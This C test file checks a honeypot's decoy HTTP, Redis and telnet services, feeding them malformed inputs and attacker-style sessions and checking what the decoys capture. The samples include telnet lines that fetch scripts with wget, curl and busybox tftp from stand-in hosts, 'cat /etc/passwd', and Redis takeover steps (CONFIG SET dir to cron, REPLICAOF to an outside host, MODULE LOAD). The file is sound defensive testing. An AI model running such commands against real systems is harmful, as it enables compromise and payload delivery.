/* SPDX-License-Identifier: Apache-2.0 */
/* Every service of the table: the rules that all must keep, and scripts of what each answers and
 * captures. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "fake/decoy_talk.h"
#include "topology/catalog.h"

/* What hostile visitors send to anything. */
static const struct sv hostile[] = {
	SV(""),
	SV("\n"),
	SV("\r\n\r\n\r\n"),
	SV("\0\0\0\0"),
	SV("GET"),
	SV("%n%n%s%x\r\n\r\n"),
	SV("\x1b]0;x\a\x1b[2J\r\n"),
	SV("\xff\xff\xff\xff\xff\xff\xfa\xff"),
	SV("*99999999999999999999\r\n"),
	SV("*1\r\n$99999999999\r\n"),
	SV("POST / HTTP/1.1\r\nContent-Length: 18446744073709551616\r\n\r\n"),
	SV("GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n"),
	SV("\x16\x03\x01\x00\xa5\x01\x00\x00\xa1"),
	SV("root\r\nadmin\r\n;;;;;|||||&&&&&\r\nexit\r\n"),
};

static void
same_however_the_bytes_are_cut(void **state)
{
	(void)state;
	for (size_t s = 0; s < decoy_services_count; s++) {
		for (size_t i = 0; i < ARRAY_LEN(hostile); i++) {
			struct talk whole, cut;

			talk_run(decoy_services[s], NULL, hostile[i],
				 hostile[i].n ? hostile[i].n : 1, true, &whole);
			for (size_t step = 1; step <= 7; step += 3) {
				talk_run(decoy_services[s], NULL, hostile[i], step, true, &cut);
				if (cut.broke_rule || whole.end != cut.end ||
				    whole.consumed != cut.consumed ||
				    !sv_eq(buf_sv(&whole.out), buf_sv(&cut.out)) ||
				    !sv_eq(buf_sv(&whole.captures), buf_sv(&cut.captures)))
					fail_msg("%s, row %zu, step %zu", decoy_services[s]->name,
						 i, step);
				talk_fini(&cut);
			}
			talk_fini(&whole);
		}
	}
}

/* A flood of everything, and a peer that reads nothing: bounded by the service's own ceilings. */
static void
floods_stay_within_the_limits(void **state)
{
	size_t n = 1 << 18;
	char *flood = malloc(n);

	(void)state;
	assert_non_null(flood);
	for (size_t s = 0; s < decoy_services_count; s++) {
		const struct decoy_service *service = decoy_services[s];

		assert_true(service->in_max > 0 && service->out_max > 0 && service->idle_ms > 0);
		for (size_t i = 0; i < ARRAY_LEN(hostile); i++) {
			struct talk t;

			if (hostile[i].n == 0)
				continue;
			for (size_t at = 0; at < n; at++)
				flood[at] = hostile[i].p[at % hostile[i].n];
			talk_run(service, NULL, (struct sv){flood, n}, 1000, false, &t);
			assert_false(t.broke_rule);
			assert_true(t.out.n <= service->out_max);
			talk_fini(&t);
		}
		memset(flood, 'a', n);
		{
			struct talk t;

			talk_run(service, NULL, (struct sv){flood, n}, 65536, true, &t);
			assert_false(t.broke_rule);
			talk_fini(&t);
		}
	}
	free(flood);
}

static void
the_catalogue_lists_what_is_built(void **state)
{
	const json_t *item;
	size_t i, n = 0;

	(void)state;
	json_array_foreach(catalog_services(), i, item)
	{
		const char *name = json_string_value(json_object_get(item, "name"));

		assert_int_equal(catalog_available(name), decoy_service_find(name) != NULL);
		n += catalog_available(name);
	}
	assert_int_equal(n, decoy_services_count);
}

/* The captures of a talk as lines of text: `type key=value …`. */
static void
describe(const struct talk *t, char *dst, size_t size)
{
	struct sv in = buf_sv(&t->captures);
	size_t n = 0;

	dst[0] = 0;
	while (in.n) {
		struct capture c;
		size_t used = 0;

		assert_int_equal(capture_get(in, &used, &c), 1);
		in = sv_drop(in, used);
		n += (size_t)snprintf(dst + n, size - n, "%s", capture_word(c.type));
		for (unsigned i = 0; i < c.nfields; i++)
			n += (size_t)snprintf(dst + n, size - n, " %.*s=%.*s",
					      (int)c.fields[i].key.n, c.fields[i].key.p,
					      (int)c.fields[i].value.n, c.fields[i].value.p);
		n += (size_t)snprintf(dst + n, size - n, "\n");
	}
}

struct script {
	const char *name, *service, *config;
	struct sv in;
	int end;
	const char *out[4];   /* each must stand in the answer, in this order */
	const char *captures; /* all of them */
};

static const struct script scripts[] = {
	{"http: the start page",
	 "http",
	 NULL,
	 SV("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: x/1\r\n\r\n"),
	 0,
	 {"HTTP/1.1 200 OK\r\n", "Server: Apache/2.4.71 (Debian)\r\n",
	  "Content-Length: ", "<h1>It works!</h1>"},
	 "fingerprint primitive=http.version value=http/1.1\n"
	 "request method=GET path=/ host=a user_agent=x/1 status=200\n"},
	{"http: HEAD has no body, HTTP/1.0 closes",
	 "http",
	 NULL,
	 SV("HEAD /?q=1 HTTP/1.0\r\n\r\n"),
	 1,
	 {"HTTP/1.1 200 OK\r\n", "Connection: close\r\n"},
	 "fingerprint primitive=http.version value=http/1.0\nrequest method=HEAD path=/?q=1 host= "
	 "user_agent= status=200\n"},
	{"http: an unknown page is the server's 404",
	 "http",
	 "{\"server_header\":\"nginx/1.22.1\"}",
	 SV("GET /nope HTTP/1.1\r\nHost: a\r\n\r\n"),
	 0,
	 {"404 Not Found", "Server: nginx/1.22.1\r\n", "Server at a Port 80"},
	 "fingerprint primitive=http.version value=http/1.1\nrequest method=GET path=/nope host=a "
	 "user_agent= status=404\n"},
	{"http: a login form is captured",
	 "http",
	 "{\"fake_app\":\"wordpress\"}",
	 SV("POST /wp-login.php HTTP/1.1\r\nHost: a\r\nContent-Length: "
	    "24\r\n\r\nlog=admin&pwd=p%40ss+word"
	    ""),
	 0,
	 {"HTTP/1.1 200 OK\r\n", "incorrect"},
	 "auth username=admin password=p@ss wor method=form ok=false\n"
	 "fingerprint primitive=http.version value=http/1.1\n"
	 "request method=POST path=/wp-login.php host=a user_agent= status=200\n"},
	{"http: Basic authentication is captured",
	 "http",
	 "{\"fake_app\":\"tomcat\"}",
	 SV("GET /manager/html HTTP/1.1\r\nHost: a\r\nAuthorization: Basic "
	    "dG9tY2F0OnMzY3JldA==\r\n\r\n"),
	 0,
	 {"HTTP/1.1 401 \r\n", "WWW-Authenticate: Basic realm=\"Tomcat Manager Application\""},
	 "auth username=tomcat password=s3cret method=basic ok=false\n"
	 "fingerprint primitive=http.version value=http/1.1\n"
	 "request method=GET path=/manager/html host=a user_agent= status=401\n"},
	{"http: configured status, headers and body",
	 "http",
	 "{\"response_code\":503,\"extra_headers\":\"X-A: 1\\nbad\\nX-B: "
	 "2\",\"custom_body\":\"gone\"}",
	 SV("GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
	 0,
	 {"HTTP/1.1 503 ", "X-A: 1\r\nX-B: 2\r\n", "\r\n\r\ngone"},
	 "fingerprint primitive=http.version value=http/1.1\nrequest method=GET path=/ host=a "
	 "user_agent= status=503\n"},
	{"http: two requests in one packet, kept alive as asked",
	 "http",
	 NULL,
	 SV("GET / HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\nGET /b HTTP/1.1\r\nHost: "
	    "a\r\nConnection: close\r\n\r\n"),
	 1,
	 {"Keep-Alive: timeout=5, max=100\r\nConnection: Keep-Alive\r\n",
	  "HTTP/1.1 404 Not Found\r\n", "Connection: close\r\n"},
	 "fingerprint primitive=http.version value=http/1.1\nrequest method=GET path=/ host=a "
	 "user_agent= status=200\nrequest method=GET path=/b host=a user_agent= status=404\n"},
	{"http: a chunked upload, waited for as asked",
	 "http",
	 NULL,
	 SV("PUT /up/x.sh HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nTransfer-Encoding: "
	    "chunked\r\n\r\n2;x=y\r\nab\r\n1\r\nc\r\n0\r\nTrailer: t\r\n\r\n"),
	 0,
	 {"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 405 Method Not Allowed\r\n",
	  "Allow: GET,POST,OPTIONS,HEAD\r\n"},
	 "file_captured name=x.sh size=3 "
	 "sha256=ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\n"
	 "fingerprint primitive=http.version value=http/1.1\n"
	 "request method=PUT path=/up/x.sh host=a user_agent= status=405\n"},
	{"http: a file in a form",
	 "http",
	 NULL,
	 SV("POST /u.php HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; "
	    "boundary=Q\r\nContent-Length: 79\r\n\r\n--Q\r\nContent-Disposition: form-data; "
	    "name=\"f\"; filename=\"s.php\"\r\n\r\nabc\r\n--Q--\r\n"),
	 0,
	 {"HTTP/1.1 404 Not Found\r\n"},
	 "file_captured name=s.php size=3 "
	 "sha256=ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\n"
	 "fingerprint primitive=http.version value=http/1.1\n"
	 "request method=POST path=/u.php host=a user_agent= status=404\n"},
	{"http: too large a body",
	 "http",
	 NULL,
	 SV("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999\r\n\r\n"),
	 1,
	 {"HTTP/1.1 413 Request Entity Too Large\r\n", "Connection: close\r\n"},
	 "fingerprint primitive=http.version value=http/1.1\nrequest method=POST path=/ host=a "
	 "user_agent= status=413\n"},
	{"http: a way out of the root",
	 "http",
	 NULL,
	 SV("GET /%2e%2e/x HTTP/1.1\r\nHost: a\r\n\r\n"),
	 1,
	 {"HTTP/1.1 400 Bad Request\r\n", "Server at a Port 80"},
	 "fingerprint primitive=http.version value=http/1.1\nrequest method=GET path=/%2e%2e/x "
	 "host=a user_agent= status=400\n"},
	{"http: a bare line feed",
	 "http",
	 NULL,
	 SV("GET / HTTP/1.1\nHost: a\n\n"),
	 -EBADMSG,
	 {"HTTP/1.1 400 Bad Request\r\n", "Server at web-01 Port 80"},
	 ""},
	{"http: a bare line feed is nothing to nginx",
	 "http",
	 "{\"server_header\":\"nginx\"}",
	 SV("GET / HTTP/1.1\nHost: a\n\n"),
	 0,
	 {"HTTP/1.1 200 OK\r\n"},
	 "fingerprint primitive=http.version value=http/1.1\nrequest method=GET path=/ host=a "
	 "user_agent= status=200\n"},
	{"http: the oldest protocol",
	 "http",
	 NULL,
	 SV("GET /\r\n"),
	 1,
	 {"<html><body><h1>It works!</h1></body></html>\n"},
	 "request method=GET path=/ host= user_agent= status=200\n"},
	{"http: an XML-RPC login",
	 "http",
	 "{\"fake_app\":\"wordpress\"}",
	 SV("POST /xmlrpc.php HTTP/1.1\r\nHost: a\r\nContent-Type: text/xml\r\nContent-Length: "
	    "100\r\n\r\n<methodName>wp.getUsersBlogs</methodName><string>admin</string>"
	    "<string>hunter2</string>             "),
	 0,
	 {"HTTP/1.1 200 OK\r\n", "<int>403</int>"},
	 "auth username=admin password=hunter2 method=xmlrpc ok=false\n"
	 "fingerprint primitive=http.version value=http/1.1\n"
	 "request method=POST path=/xmlrpc.php host=a user_agent= status=200\n"},
	{"http: what a visitor types does not become markup",
	 "http",
	 "{\"fake_app\":\"wordpress\"}",
	 SV("POST /wp-login.php HTTP/1.1\r\nHost: a\r\nContent-Length: "
	    "32\r\n\r\nlog=%3Cscript%3Ex&pwd=%3C/script"),
	 0,
	 {"username <strong>scriptx</strong> is incorrect"},
	 "auth username=<script>x password=</script method=form ok=false\n"
	 "fingerprint primitive=http.version value=http/1.1\n"
	 "request method=POST path=/wp-login.php host=a user_agent= status=200\n"},
	{"http: Jenkins sends everybody to its login",
	 "http",
	 "{\"fake_app\":\"jenkins\"}",
	 SV("GET /script?x HTTP/1.1\r\nHost: a\r\n\r\n"),
	 0,
	 {"HTTP/1.1 403 Forbidden\r\n", "X-Jenkins: ", "Server: Jetty(10.0.18)\r\n",
	  "/login?from=%2Fscript'"},
	 "fingerprint primitive=http.version value=http/1.1\nrequest method=GET path=/script?x "
	 "host=a user_agent= status=403\n"},
	{"http: TLS on the plain port",
	 "http",
	 NULL,
	 SV("\x16\x03\x01\x02\x00\x01"),
	 -EBADMSG,
	 {"HTTP/1.1 400 Bad Request\r\n", "could not understand"},
	 ""},
	{"redis: ping, info, keys",
	 "redis",
	 "{\"version\":\"6.0.16\"}",
	 SV("PING\r\n*3\r\n$3\r\nSET\r\n$1\r\na\r\n$2\r\nbc\r\nGET a\r\nINFO\r\nDBSIZE\r\n"),
	 0,
	 {"+PONG\r\n+OK\r\n$2\r\nbc\r\n", "redis_version:6.0.16\r\n", "db0:keys=1", ":1\r\n"},
	 "command command=PING\ncommand command=SET a bc\ncommand command=GET a\ncommand "
	 "command=INFO\ncommand "
	 "command=DBSIZE\n"},
	{"redis: a password is data, not a command",
	 "redis",
	 NULL,
	 SV("AUTH hunter2\r\nAUTH bob pw\r\n"),
	 0,
	 {"-ERR AUTH <password> called without any password", "-WRONGPASS"},
	 "auth username=default password=hunter2 method=password ok=false\n"
	 "auth username=bob password=pw method=password ok=false\n"},
	{"redis: what botnets try on an old one",
	 "redis",
	 "{\"version\":\"6.0.16\"}",
	 SV("CONFIG SET dir /var/spool/cron\r\nCONFIG GET dir\r\nSLAVEOF 203.0.113.9 "
	    "8886\r\nMODULE LOAD /tmp/x.so\r\nQUIT\r\n"),
	 1,
	 {"+OK\r\n*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n+OK\r\n-ERR Error loading the "
	  "extension",
	  "+OK\r\n"},
	 "command command=CONFIG SET dir /var/spool/cron\ncommand command=CONFIG GET dir\n"
	 "command command=SLAVEOF 203.0.113.9 8886\nfingerprint primitive=c2.endpoint "
	 "value=203.0.113.9:8886\ncommand command=MODULE LOAD /tmp/x.so\ncommand "
	 "command=QUIT\n"},
	{"redis: the same on a new one",
	 "redis",
	 NULL,
	 SV("CONFIG SET dir /tmp\r\nREPLICAOF 203.0.113.9 8886\r\nROLE\r\nMODULE LOAD /x.so\r\n"),
	 0,
	 {"can't set protected config\r\n+OK\r\n",
	  "*5\r\n$5\r\nslave\r\n$11\r\n203.0.113.9\r\n:8886\r\n",
	  "-ERR MODULE command not allowed."},
	 "command command=CONFIG SET dir /tmp\ncommand command=REPLICAOF 203.0.113.9 8886\n"
	 "fingerprint primitive=c2.endpoint value=203.0.113.9:8886\ncommand command=ROLE\n"
	 "command command=MODULE LOAD /x.so\n"},
	{"redis: an error ends on its line",
	 "redis",
	 NULL,
	 SV("*2\r\n$1\r\nx\r\n$4\r\na\r\nb\r\n"),
	 0,
	 {"-ERR unknown command 'x', with args beginning with: 'a  b' \r\n"},
	 "command command=x \"a\\r\\nb\"\n"},
	{"redis: broken protocol",
	 "redis",
	 NULL,
	 SV("*1\r\n!\r\n"),
	 -EBADMSG,
	 {"-ERR Protocol error: expected '$', got '!'\r\n"},
	 ""},
	{"telnet: a wrong password",
	 "telnet",
	 NULL,
	 SV("root\r\nhunter2\r\n"),
	 0,
	 {"web-01 login: ", "Password: ", "Login incorrect\r\n", "web-01 login: "},
	 "auth username=root password=hunter2 method=password ok=false\n"},
	{"telnet: three of them",
	 "telnet",
	 NULL,
	 SV("a\r\nb\r\nc\r\nd\r\ne\r\nf\r\n"),
	 1,
	 {"Login incorrect"},
	 "auth username=a password=b method=password ok=false\nauth username=c password=d "
	 "method=password ok=false\n"
	 "auth username=e password=f method=password ok=false\n"},
	{"telnet: options, a backspace, Ctrl-C and NUL after CR",
	 "telnet",
	 NULL,
	 SV("\xff\xfd\x01\xff\xfa\x1f\0\x50\0\x18\xff\xf0roox\x7ft\r\0admin\r\npw\x03pwd\r\ncat "
	    "/etc/passwd\r\n"),
	 0,
	 {"\xff\xfb\x01\xff\xfb\x03", "roox\b \bt\r\nPassword: ", "^C\r\n", "ubuntu:x:1000:1000:"},
	 "auth username=root password=admin method=password ok=true\ncommand command=pwd\n"
	 "command command=cat /etc/passwd\n"},
	{"telnet: where the tools come from",
	 "telnet",
	 NULL,
	 SV("root\r\nadmin\r\ncd /tmp; wget http://203.0.113.9:8080/x.sh -O /tmp/x; curl "
	    "bad.example/y\r\n/bin/busybox tftp -g -r a 203.0.113.7\r\n"),
	 0,
	 {"No route to host.\r\n", "Could not resolve host: bad.example\r\n", "tftp: timeout\r\n"},
	 "auth username=root password=admin method=password ok=true\n"
	 "command command=cd /tmp; wget http://203.0.113.9:8080/x.sh -O /tmp/x; curl "
	 "bad.example/y\n"
	 "fingerprint primitive=c2.endpoint value=203.0.113.9:8080\n"
	 "fingerprint primitive=c2.endpoint value=bad.example:80\n"
	 "command command=/bin/busybox tftp -g -r a 203.0.113.7\n"
	 "fingerprint primitive=c2.endpoint value=203.0.113.7:69\n"},
	{"telnet: the loader's usual lines",
	 "telnet",
	 "{\"user\":\"support\",\"user_password\":\"support\",\"hostname\":\"cam\"}",
	 SV("support\r\nsupport\r\nenable\r\n/bin/busybox ECCHI\r\nid; uname -m\r\n"),
	 0,
	 {"cam login: ", "support@cam:~$ ", "ECCHI: applet not found\r\n", "uid=1000(support)"},
	 "auth username=support password=support method=password ok=true\ncommand command=enable\n"
	 "command command=/bin/busybox ECCHI\ncommand command=id; uname -m\n"},
};

static void
run_script(void **state)
{
	const struct script *s = *state;
	const struct decoy_service *service = decoy_service_find(s->service);
	json_t *config = s->config ? json_loads(s->config, 0, NULL) : NULL;
	char captures[4096], *answer, *at;
	struct talk t;

	assert_non_null(service);
	talk_run(service, config, s->in, s->in.n, true, &t);
	assert_int_equal(t.end, s->end);
	answer = buf_take(&t.out);
	assert_non_null(answer);
	at = answer;
	for (size_t i = 0; i < ARRAY_LEN(s->out) && s->out[i]; i++) {
		char *found = strstr(at, s->out[i]);

		if (!found)
			fail_msg("no '%s' in: %s", s->out[i], at);
		at = found + strlen(s->out[i]);
	}
	describe(&t, captures, sizeof(captures));
	/* A recorded session holds the whole talk; its presence is enough here. */
	at = strstr(captures, "session_recorded");
	if (at)
		*at = 0;
	assert_string_equal(captures, s->captures);
	free(answer);
	talk_fini(&t);
	json_decref(config);
}

int
main(void)
{
	struct CMUnitTest tests[3 + ARRAY_LEN(scripts)] = {
		cmocka_unit_test(same_however_the_bytes_are_cut),
		cmocka_unit_test(floods_stay_within_the_limits),
		cmocka_unit_test(the_catalogue_lists_what_is_built),
	};

	for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
		void *row = NULL;
		const struct script *script = &scripts[i];

		memcpy(&row, &script, sizeof(row));
		tests[3 + i] = (struct CMUnitTest){scripts[i].name, run_script, NULL, NULL, row};
	}
	return cmocka_run_group_tests(tests, NULL, NULL);
}
